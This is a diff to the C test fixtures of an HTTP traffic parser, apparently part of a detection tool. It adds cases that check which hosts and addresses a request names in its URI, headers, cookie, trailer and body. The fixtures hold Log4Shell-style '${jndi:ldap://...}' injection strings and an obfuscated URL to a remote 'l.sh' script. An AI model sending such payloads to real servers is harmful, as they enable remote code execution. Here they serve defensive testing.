@@ -209,9 +209,34 @@ static const struct exchange exchanges[] = {
 	 "raw=\"JHtqbmRpOmxkYXA6Ly9oMy9j\" facts=jndi flags=encoded\n"
 	 "http.request http client tx=1 length=25 method=\"POST\" uri=\"/?x=${jndi:ldap://h1/a}\" host=\"a\" "
 	 "version=\"HTTP/1.1\"\n"
+	 "named http client field=\"uri\" hosts=\"h1 h2\"\n"
 	 "jndi http client field=\"body\" scheme=\"ldap\" host=\"h4\" path=\"/d\" decoded=\"jndi:ldap://h4/d\" "
 	 "raw=\"${jndi:ldap://h4/d}\" facts=jndi\n"
-	 "file http client tx=1 kind=text length=25 head=713d247b6a6e64693a6c6461703a2f2f\n"},
+	 "file http client tx=1 kind=text length=25 head=713d247b6a6e64693a6c6461703a2f2f\n"
+	 "named http client field=\"body\" hosts=\"h4\"\n"},
+	{"what a request names, in target, headers, cookie, trailer and body; its own site is nothing new",
+	 {C("POST /?u=http%3A%2F%2F203.0.113.9%3A8080%2Fx HTTP/1.1\r\nHost: www.example.com\r\n"
+	    "Referer: http://www.example.com/form\r\nX-Forwarded-For: 198.51.100.7\r\n"
+	    "X-Real-IP: http://probe.example.net/\r\nUser-Agent: x/120.0.0.1\r\nX-Notify: [2001:db8::7]:80\r\n"
+	    "Cookie: back=aHR0cDovL2I2NC5leGFtcGxlL2E=\r\nTransfer-Encoding: chunked\r\n\r\n"
+	    "15\r\n{\"u\":\"http:\\/\\/0xcb00\r\nc\r\n7101\\/l.sh\"}\r\n0\r\nZ: //late.example/\r\n\r\n")},
+	 DIRECTION_IN,
+	 false,
+	 PARSE_MORE,
+	 "http.request http client tx=1 method=\"POST\" uri=\"/?u=http%3A%2F%2F203.0.113.9%3A8080%2Fx\" "
+	 "host=\"www.example.com\" user_agent=\"x/120.0.0.1\" referer=\"http://www.example.com/form\" version=\"HTTP/1.1\"\n"
+	 "named http client field=\"uri\" addresses=203.0.113.9,2001:db8::7 hosts=\"probe.example.net b64.example\"\n"
+	 "file http client tx=1 kind=json head=7b2275223a22687474703a5c2f5c2f30\n"
+	 "named http client field=\"body\" addresses=203.0.113.1\n"
+	 "named http client field=\"header:z\" hosts=\"late.example\"\n"},
+	{"what a server or an inside client says names nobody",
+	 {C("GET /?u=http://203.0.113.9/ HTTP/1.1\r\nHost: a\r\n\r\n"),
+	  SRV("HTTP/1.1 302 Found\r\nLocation: http://203.0.113.9/\r\nContent-Length: 0\r\n\r\n")},
+	 DIRECTION_OUT,
+	 false,
+	 PARSE_MORE,
+	 "http.request http client tx=1 method=\"GET\" uri=\"/?u=http://203.0.113.9/\" host=\"a\" version=\"HTTP/1.1\"\n"
+	 "http.response http server tx=1 status=302 location=\"http://203.0.113.9/\" version=\"HTTP/1.1\"\n"},
 	{"a look-up in a folded header, one in a header's name, one in a trailer",
 	 {C("POST / HTTP/1.1\r\nHost: a\r\nX: ${jndi:ld\r\n ap://h/a}\r\n${jndi:dns://h/b}: v\r\nTransfer-Encoding: "
 	    "chunked\r\n\r\n"
